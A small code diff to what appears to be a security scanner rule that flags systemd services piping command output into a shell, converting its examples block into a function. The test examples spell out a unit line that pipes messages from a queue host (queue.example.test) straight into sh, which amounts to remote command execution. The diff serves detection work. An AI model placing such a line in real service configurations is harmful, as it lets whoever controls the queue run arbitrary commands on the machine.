@@ -27,7 +27,7 @@ export const outputIsCode: ActivationRule = {
       if (!isPackagedPlace(behaviour.span.path, activation, inventory)) yield accuse(behaviour, inventory);
   },
 
-  examples: {
+  examples: () => ({
     fires: [timed("ExecStart=/bin/sh -c 'mosquitto_sub -h queue.example.test -t jobs -C 1 | sh'")],
     finds: {
       1: ["suspicious high medium /etc/systemd/system/job.service:3: sh runs what mosquitto_sub prints."],
@@ -37,5 +37,5 @@ export const outputIsCode: ActivationRule = {
       timed("ExecStart=/bin/sh -c 'eval \"$$(ssh-agent -s)\"'"),
       shipped("vendor", "ExecStart=/bin/sh -c 'vendor-jobs --print | sh'"),
     ],
-  },
+  }),
 };
